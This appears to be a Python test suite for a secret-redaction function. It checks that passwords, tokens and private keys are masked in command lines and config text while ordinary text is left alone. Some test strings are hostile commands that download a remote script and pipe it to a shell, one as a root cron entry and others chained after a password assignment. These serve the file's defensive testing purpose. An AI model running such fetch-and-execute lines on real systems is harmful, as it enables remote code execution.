"""Secrets are taken out of text, and nothing else is."""

import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shield.redaction import MARK, redact, redact_args

SECRET_CHARACTERS = string.ascii_letters + string.digits + "!%+./:=?@_~^,"
secrets = st.text(SECRET_CHARACTERS, min_size=4, max_size=60).filter(
    lambda one: one[0] not in "-/=:?@" and "@" not in one
)
plain = st.text(string.ascii_lowercase + " ", max_size=30)

# Around each `{}` a secret may stand.
BEHIND_A_NAME = [
    "mysql --user=app --password={} shop",
    "tool --api-key {} --verbose",
    "tool --token '{}' --verbose",
    'tool --client-secret "{}" next',
    "export DB_PASSWORD={} && run",
    "spring.datasource.password = {}",
    '{{"password": "{}", "user": "app"}}',
    "password: {}",
    'Environment="API_TOKEN={}" "LEVEL=info"',
    "sh -c \"mysql --password '{}' shop\"",
    "curl -H 'X-Api-Key: {}' https://example.org/a",
    'curl -H "Authorization: Bearer {}" https://example.org/a',
    "curl -u bob:{} https://example.org/a",
    "sshpass -p {} ssh bob@example.org",
    "mysqldump -uroot -p{} shop",
    "openssl enc -d -passin pass:{} -in a",
    "echo 'bob:{}' | chpasswd",
    "machine example.org login bob password {}",
    '["run", "--password", "{}", "--fast"]',
]


@pytest.mark.parametrize("template", BEHIND_A_NAME)
@given(secret=secrets)
def test_a_secret_is_gone_and_all_around_it_stays(template: str, secret: str) -> None:
    if "'bob:" in template or "-u bob" in template or "sshpass" in template:
        secret = secret.replace(":", "x")
    assert redact(template.format(secret)) == template.format(MARK)


@given(secret=st.text(string.ascii_letters + string.digits + "%_.~-", min_size=1, max_size=40))
def test_the_password_in_a_url_is_gone(secret: str) -> None:
    assert (
        redact(f"git clone https://bob:{secret}@example.org/x.git") == f"git clone https://bob:{MARK}@example.org/x.git"
    )


@pytest.mark.parametrize(
    "secret",
    [
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
        "xoxb-123456789012-abcdefghij",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N",
        "$6$rounds=5000$saltsalt$abcdefghijklmnopqrstuvwxyz0123456789./ABCDEF",
    ],
)
def test_a_token_of_a_known_shape_is_gone_wherever_it_stands(secret: str) -> None:
    assert redact(f"run {secret} now") == f"run {MARK} now"


@pytest.mark.parametrize("end", ["\n-----END RSA PRIVATE KEY-----\n", ""])
def test_a_private_key_is_gone_even_if_it_is_cut_short(end: str) -> None:
    told = redact(f"key:\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\nabcdef/+=={end}")
    assert "MIIE" not in told
    assert "abcdef" not in told
    assert "BEGIN RSA PRIVATE KEY" in told


@pytest.mark.parametrize("value", ["deadbeefdeadbeef01", "bG9uZyBiYXNlNjQgdmFsdWUgaGVyZQ1="])
def test_what_looks_like_a_secret_behind_a_doubtful_name_is_gone(value: str) -> None:
    assert redact(f"key={value}") == f"key={MARK}"


@pytest.mark.parametrize(
    "harmless",
    [
        "*/5 * * * * root curl -s http://203.0.113.5/x | bash",
        "password requisite pam_pwquality.so retry=3",
        "auth [success=1 default=ignore] pam_unix.so nullok",
        "ssh -o PasswordAuthentication=no bob@example.org",
        "gpg --passphrase-file /etc/secret/key --batch",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGHxTqQ5lO9y bob@laptop",
        "docker run -u 1000:1000 alpine",
        "PWD=/root HOME=/root",
        "key=/usr/lib/x86_64-linux-gnu/security/pam_unix.so",
        "tool --max-tokens 100 --key short",
        "ExecStart=/usr/sbin/sshd -D $SSHD_OPTS",
    ],
)
def test_what_is_no_secret_stays(harmless: str) -> None:
    assert redact(harmless) == harmless


def test_a_command_behind_a_secret_stays_visible() -> None:
    assert redact("PASSWORD=x;curl http://evil/|sh") == f"PASSWORD={MARK};curl http://evil/|sh"
    assert redact('sh -c "PASSWORD=x curl http://evil/ | sh"') == f'sh -c "PASSWORD={MARK} curl http://evil/ | sh"'


@given(plain, secrets)
def test_arguments_lose_the_one_behind_a_secret_option(word: str, secret: str) -> None:
    assert redact_args(["tool", word, "--password", secret, "--fast"]) == ("tool", word, "--password", MARK, "--fast")


@given(st.text(max_size=300), st.integers(0, 200))
def test_the_result_is_never_longer_than_the_limit(text: str, limit: int) -> None:
    assert len(redact(text, limit)) <= limit


@given(plain, secrets, st.integers(0, 80))
def test_a_limit_never_brings_a_secret_back(before: str, secret: str, limit: int) -> None:
    told = redact(f"{before} --password={secret} x", limit)
    assert f"--password={secret[:1]}" not in told or secret[0] == MARK[0]


@pytest.mark.parametrize(
    "piece", ["--a ", "password=", "mysql ", "echo a ", "a://b:", "key=", "'", '"PASSWORD=', "login a password"]
)
def test_hostile_text_costs_time_by_its_length_only(piece: str) -> None:
    """A pattern that backtracks would take hours for these: the test would never end."""
    redact(piece * ((1 << 17) // len(piece)))
